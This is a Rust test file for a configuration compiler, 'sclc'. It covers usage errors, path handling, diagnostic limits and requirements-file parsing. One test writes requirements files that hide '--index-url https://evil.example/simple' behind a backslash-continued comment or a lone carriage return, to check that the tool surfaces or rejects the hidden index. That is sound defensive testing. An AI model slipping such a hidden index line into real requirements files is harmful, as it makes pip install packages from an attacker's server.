//! Values checked at `sclc check` time, end to end: usage errors of `check`
//! and `ir` (exit 2), `host:` sources that need not exist, file names kept
//! byte for byte, `--set` given twice, no panic message on stderr when a
//! parsing library fails on a value, requirements files read as pip reads
//! them, results that do not depend on environment variables, and messages
//! that do not grow with the value they quote.

mod common;
use common::*;
use std::path::Path;

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn write(dir: &Path, name: &str, text: &str) {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

#[test]
fn check_on_a_folder_without_env_files_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "notes/readme.md", "# nothing to check\n");
    let out = sclc(dir.path(), &["check"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no `.env.scl` file in ."),
        "{}",
        stderr(&out)
    );
    let out = sclc(dir.path(), &["check", "notes"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("no `.env.scl` file in notes"));
    // A file list with no `.env.scl` file says so too.
    let out = sclc(dir.path(), &["check", "notes/readme.md"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("notes/readme.md is not a `.env.scl` file"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn ir_and_build_of_a_folder_say_it_is_not_a_file() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "a.env.scl",
        "env a { base = image(\"debian:12.5\") }\n",
    );
    for args in [
        &["ir", "."][..],
        &["build", ".", "--target", "docker", "--out", "out"][..],
    ] {
        let out = sclc(dir.path(), args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            stderr(&out).contains(". is a folder, not a file"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
}

/// The acceptance scenario `mnist-dev`, as written, checks without its
/// `./src`, `./data`, `./experiments` and `./mlruns` folders: `host:`
/// sources are folders of the machine that runs the container.
#[test]
fn host_sources_need_not_exist_at_check_time() {
    let dir = tempfile::tempdir().unwrap();
    let src = repo().join("examples/mnist-dev");
    for f in ["dev.env.scl", "requirements.txt"] {
        std::fs::copy(src.join(f), dir.path().join(f)).unwrap();
    }
    let out = sclc(dir.path(), &["check", "dev.env.scl"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("not found") && !stderr(&out).contains("./src"),
        "nothing about the folders: {}",
        stderr(&out)
    );
    let out = sclc(dir.path(), &["ir", "dev.env.scl", "--env", "ai_dev"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let ir: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        ir["volumes"][0]["source"], "host:src",
        "normalized as before"
    );
    // A copied file must still exist.
    write(
        dir.path(),
        "copy.env.scl",
        "env c {\n  base = image(\"debian:12.5\")\n  files = [{ from = \"./src\", to = \"/workspace/src\" }]\n}\n",
    );
    let out = sclc(
        dir.path(),
        &["check", "copy.env.scl", "--message-format", "json"],
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("\"code\":\"E0307\""),
        "{}",
        stderr(&out)
    );
}

/// A backslash is part of a file name on Unix: the IR keeps it (it used to
/// become `/`, naming another file than the one hashed).
#[test]
fn host_paths_keep_backslashes() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "v.env.scl",
        "env v {\n  base = image(\"debian:12.5\")\n  volumes = [{ name = \"d\", source = \"host:./a\\\\b\", mount = \"/d\" }]\n}\n",
    );
    let out = sclc(dir.path(), &["ir", "v.env.scl", "--env", "v"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let ir: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(ir["volumes"][0]["source"], "host:a\\b");
}

#[test]
fn set_twice_is_an_error_that_shows_both_flags() {
    let dir = repo().join("tests/diagnostics");
    let out = sclc(
        &dir,
        &[
            "ir",
            "set_twice.env.scl",
            "--set",
            "gpus=2",
            "--set",
            "gpus=4",
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    let s = stderr(&out);
    assert!(
        s.contains("[E0319] Error: `--set gpus` is given twice"),
        "{s}"
    );
    assert!(s.contains("set here first"), "{s}");
    assert!(out.stdout.is_empty(), "no IR is printed");
}

/// A library that panics on a value (pep508_rs on `a-}`) gives a coded
/// diagnostic, exit 1, and no panic message on stderr.
#[test]
fn a_library_panic_is_a_diagnostic_without_a_panic_message() {
    let dir = repo().join("tests/diagnostics");
    for case in [
        "requirement_panic.env.scl",
        "requirements_panic/main.env.scl",
    ] {
        let out = sclc(&dir, &["check", case]);
        let s = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{case}: {s}");
        assert!(s.contains("[E0317] Error"), "{case}: {s}");
        assert!(!s.contains("panicked"), "{case}: {s}");
        assert!(!s.contains("PackageName"), "{case}: {s}");
    }
}

/// Runs `sclc` with one extra environment variable (or without it).
fn sclc_env(cwd: &Path, args: &[&str], var: (&str, Option<&str>)) -> std::process::Output {
    let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_sclc"));
    c.args(args).current_dir(cwd).env("NO_COLOR", "1");
    match var.1 {
        Some(v) => c.env(var.0, v),
        None => c.env_remove(var.0),
    };
    c.output().expect("sclc runs")
}

#[test]
fn check_does_not_depend_on_environment_variables() {
    // round 2, M8: pep508_rs replaces `${XHOST}` from sclc's environment,
    // so the same file passed with XHOST unset and failed with XHOST='a b'.
    let dir = repo().join("tests/diagnostics");
    for case in [
        "env_var_requirement.env.scl",
        "requirements_pip_reading/main.env.scl",
    ] {
        let args = ["check", case, "--message-format", "json"];
        let unset = sclc_env(&dir, &args, ("XHOST", None));
        let set = sclc_env(&dir, &args, ("XHOST", Some("a b")));
        let plain = sclc_env(&dir, &args, ("XHOST", Some("example.com")));
        assert_eq!(stderr(&unset), stderr(&set), "{case}");
        assert_eq!(stderr(&unset), stderr(&plain), "{case}");
        assert_eq!(unset.status.code(), Some(1), "{case}");
        assert!(
            stderr(&unset).contains("\"E0333\""),
            "{case}: {}",
            stderr(&unset)
        );
    }
}

/// `sclc ir` of an env whose only requirements file is `req`.
fn ir_with_requirements(req: &str) -> (Option<i32>, String, String) {
    let tmp = tempfile::tempdir().unwrap();
    write(
        tmp.path(),
        "main.env.scl",
        "env app {\n  base = image(\"python:3.12-slim\")\n  python.requirements = [file(\"./requirements.txt\")]\n}\n",
    );
    write(tmp.path(), "requirements.txt", req);
    let out = sclc(tmp.path(), &["ir", "main.env.scl", "--env", "app"]);
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr(&out),
    )
}

#[test]
fn a_hidden_index_url_is_carried_into_the_ir_as_pip_reads_it() {
    // round 2, C2: pip never continues a comment line, so the
    // `--index-url` below is read (sclc used to read it as part of the
    // comment, and the IR showed no index).
    let (code, ir, err) = ir_with_requirements(
        "numpy==1.26.4\n# harmless comment \\\n--index-url https://evil.example/simple\n",
    );
    assert_eq!(code, Some(0), "{err}");
    let ir: serde_json::Value = serde_json::from_str(&ir).unwrap();
    assert_eq!(
        ir["python"]["index_url"], "https://evil.example/simple",
        "{ir}"
    );
    // A lone CR ends a line for pip (str.splitlines), so a reader sees a
    // comment where pip reads an option: the file is refused (E0010).
    let (code, _, err) = ir_with_requirements(
        "numpy==1.26.4 # note \r--extra-index-url https://evil.example/simple",
    );
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains("requirements.txt line 1: invisible character U+000D (CARRIAGE RETURN)"),
        "{err}"
    );
    // A CRLF file is fine, and read as pip reads it.
    let (code, ir, err) =
        ir_with_requirements("numpy==1.26.4\r\n--extra-index-url https://extra.example/simple\r\n");
    assert_eq!(code, Some(0), "{err}");
    let ir: serde_json::Value = serde_json::from_str(&ir).unwrap();
    assert_eq!(
        ir["python"]["extra_index_urls"][0], "https://extra.example/simple",
        "{ir}"
    );
    // `-i=URL` is the value `=URL` for pip, which is not a URL.
    let (code, _, err) = ir_with_requirements("-i=https://pypi.example/simple\n");
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("[E0325] Error"), "{err}");
    assert!(err.contains("\"=https://pypi.example/simple\""), "{err}");
}

#[test]
fn a_diagnostic_quotes_at_most_a_bounded_part_of_a_value() {
    // round 2, M7: a line of 1 MB of NULs in a requirements file was quoted
    // whole (8 MB of `\0`); so was any value in a validator's message.
    let (code, _, err) = ir_with_requirements(&format!("a{}!", "x".repeat(1 << 20)));
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("bytes in all"), "{err}");
    assert!(err.len() < 4000, "{} bytes of diagnostics", err.len());
    let tmp = tempfile::tempdir().unwrap();
    let long = "A".repeat(1 << 20);
    write(
        tmp.path(),
        "main.env.scl",
        &format!("env a {{\n  base = image(\"debian:12.5\")\n  system.packages = [\"{long}\"]\n}}\nenv b {{\n  base = image(\"debian:12.5\")\n  python.packages = [\"{long}>=>1\"]\n}}\nenv c {{\n  base = image(\"debian:12.5\")\n  user = {{ name = \"{long}\", uid = 1000 }}\n}}\n"),
    );
    let out = sclc(
        tmp.path(),
        &["check", "main.env.scl", "--message-format", "json"],
    );
    let err = stderr(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        &err[..err.len().min(2000)]
    );
    assert_eq!(err.lines().count(), 3, "{}", &err[..err.len().min(2000)]);
    for l in err.lines() {
        assert!(
            l.len() < 2000,
            "a diagnostic of {} bytes: {}",
            l.len(),
            &l[..300]
        );
    }
}

#[test]
fn a_dense_depends_on_graph_is_one_cycle_diagnostic() {
    // round 2, H3: `sN = b with { depends_on = all }` for n services gave
    // about n²/2 cycle diagnostics (n = 800: 38 s, 5.7 GB).
    let n = 120;
    let all: Vec<String> = (0..n).map(|i| format!("\"s{i}\"")).collect();
    let mut text = format!(
        "env b {{\n  base = image(\"debian:12.5\")\n}}\nlet all = [{}]\nenv app {{\n  services {{\n",
        all.join(", ")
    );
    for i in 0..n {
        text.push_str(&format!("    s{i} = b with {{ depends_on = all }}\n"));
    }
    text.push_str("  }\n}\n");
    let tmp = tempfile::tempdir().unwrap();
    write(tmp.path(), "main.env.scl", &text);
    let out = sclc(
        tmp.path(),
        &["check", "main.env.scl", "--message-format", "json"],
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let cycles: Vec<&str> = err.lines().filter(|l| l.contains("\"E0329\"")).collect();
    assert_eq!(cycles.len(), 1, "{}", &err[..err.len().min(3000)]);
    assert!(
        cycles[0].contains(
            "service `s0` depends on itself (120 services in all depend on each other in cycles)"
        ),
        "{}",
        cycles[0]
    );
}

#[test]
fn copies_into_the_ir_are_charged_to_the_evaluation_budget() {
    // round 2, H1: a value is charged once when made, but every reference
    // to it became its own copy in the IR (round 2's program: 37 s,
    // 10.7 GB). Here 400 references to a 1 MB string (400 MB of IR).
    let x100 = "x".repeat(100);
    let x399 = "x".repeat(399);
    let refs = format!(
        "let s1 = \"{x100}\"\nlet s2 = replace(s1, \"x\", s1)\nlet mb = replace(s2, \"x\", s1)\nlet four = \"{x399}\"\nenv app {{\n  base = image(\"debian:12.5\")\n  entrypoint = [for x in split(four, \"x\"): mb]\n}}\n"
    );
    // The same through `extends`: a chain of 100 envs inherits a 4 MiB
    // description (the budget bounds one declaration with what it reads
    // of its module: each env of the chain reads the one before).
    let mut inherit = format!(
        "let big = \"{}\"\nlet d = replace(replace(big, \"x\", \"xxxx\"), \"x\", \"xxxx\")\nenv e0 {{\n  base = image(\"debian:12.5\")\n  description = d\n}}\n",
        "x".repeat(1 << 18)
    );
    for i in 1..=100 {
        inherit.push_str(&format!("env e{i} extends e{} {{}}\n", i - 1));
    }
    for (name, text, line) in [("refs", refs, 7), ("inherit", inherit, 5)] {
        let tmp = tempfile::tempdir().unwrap();
        write(tmp.path(), "main.env.scl", &text);
        let out = sclc(
            tmp.path(),
            &["check", "main.env.scl", "--message-format", "json"],
        );
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{name}: {err}");
        let d: Vec<serde_json::Value> = err
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(d.len(), 1, "{name}: {err}");
        assert_eq!(d[0]["code"], "E0316", "{name}: {err}");
        assert_eq!(d[0]["line"], line, "{name}: {err}");
    }
}
